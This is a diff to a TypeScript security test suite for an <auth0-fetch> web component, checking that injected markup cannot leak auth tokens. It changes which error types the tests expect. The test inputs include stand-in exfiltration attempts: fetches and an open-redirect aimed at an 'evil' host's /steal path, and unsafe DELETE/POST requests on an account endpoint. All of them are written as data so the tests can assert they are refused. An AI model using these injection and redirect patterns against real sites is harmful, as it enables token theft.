@@ -3,7 +3,7 @@
 // Asserted where it counts: at the network edge (the attacker's stand-in server, the tenant's log).
 import { expect, oneEvent } from '@open-wc/testing';
 import { tenant } from '../../support/tenant.js';
-import { Auth0FetchRefusedError } from '../../../components/index.js';
+import { GenericError } from '../../../components/index.js';
 import { clean, edge, fetchError, fetchIn, info, inject, settle, shownError, signedIn, wire } from './helpers.js';
 
 /** The tenant's token traffic since the last reset (no token may be fetched for a refused request). */
@@ -18,9 +18,9 @@ async function expectRefused(provider: Element, markup: string, error: string, r
   const { detail } = await fetchError(block);
   const element = fetchIn(block);
   await element.updateComplete;
-  expect(detail.error).to.be.instanceOf(Auth0FetchRefusedError);
-  expect(detail.error).to.include({ error, refused });
-  expect(detail.error.message).to.contain(refused);
+  expect(detail.error).to.be.instanceOf(GenericError);
+  expect(detail.error.error).to.equal(error);
+  expect(detail.error.message).to.equal(`${error}: ${refused}`);
   expect(element.error).to.equal(detail.error);
   expect(shownError(element)).to.contain(refused);
   await settle();
@@ -67,8 +67,9 @@ describe('security: <auth0-fetch> markup cannot send tokens where the page owner
     const provider = await signedIn({ 'api-origins': api });
     const block = inject(provider, `<auth0-fetch src="${api}/redirect?to=${encodeURIComponent(`${evil}/steal`)}"></auth0-fetch>`);
     const { detail } = await fetchError(block);
-    expect(detail.error).to.be.instanceOf(Auth0FetchRefusedError);
-    expect(detail.error).to.include({ error: 'redirect_not_followed', refused: api });
+    // redirect: 'error': the browser refuses to follow and the request fails as a network error.
+    expect(detail.error).to.be.instanceOf(TypeError);
+    expect(shownError(fetchIn(block))).to.equal(detail.error.message);
     // The allowed API got the request (with the token, as the owner allowed); the target nothing.
     const [sent] = (await edge.requests('api')).filter((r) => r.method === 'GET');
     expect(sent.path).to.equal('/redirect');
@@ -85,7 +86,7 @@ describe('security: <auth0-fetch> markup cannot send tokens where the page owner
     expect(detail.data).to.deep.equal({ path: '/__security/api/ok', same_origin: true });
     const refused = fetchError(block);
     element.setAttribute('src', `${evil}/steal`);
-    expect((await refused).detail.error).to.include({ error: 'origin_not_allowed', refused: evil });
+    expect((await refused).detail.error).to.include({ error: 'origin_not_allowed', message: `origin_not_allowed: ${evil}` });
     await element.updateComplete;
     expect(element.data).to.equal(undefined);
     await settle();
@@ -103,7 +104,7 @@ describe('security: <auth0-fetch> markup cannot send tokens where the page owner
   it('a method other than GET or HEAD never runs on load; a click sends it', async () => {
     const provider = await signedIn();
     await expectRefused(provider, `<auth0-fetch method="DELETE" src="/__security/api/account"></auth0-fetch>`, 'unsafe_method_on_load', 'DELETE');
-    await expectRefused(provider, `<auth0-fetch method="post" body="{}" src="/__security/api/account"></auth0-fetch>`, 'unsafe_method_on_load', 'POST');
+    await expectRefused(provider, `<auth0-fetch method="post" body="{}" src="/__security/api/account"></auth0-fetch>`, 'unsafe_method_on_load', 'post');
     expect(await edge.requests('self'), 'nothing reached the API').to.deep.equal([]);
     const block = inject(provider, `<auth0-fetch trigger="click" method="DELETE" src="/__security/api/account"></auth0-fetch>`);
     const element = fetchIn(block);
@@ -123,7 +124,7 @@ describe('security: <auth0-fetch> markup cannot send tokens where the page owner
          <auth0-fetch src="${evil}/steal"></auth0-fetch></auth0-provider>`,
     );
     const { detail } = await fetchError(block);
-    expect(detail.error).to.include({ error: 'origin_not_allowed', refused: evil });
+    expect(detail.error).to.include({ error: 'origin_not_allowed', message: `origin_not_allowed: ${evil}` });
     await settle();
     expect(await edge.requests('evil')).to.deep.equal([]);
     block.remove();
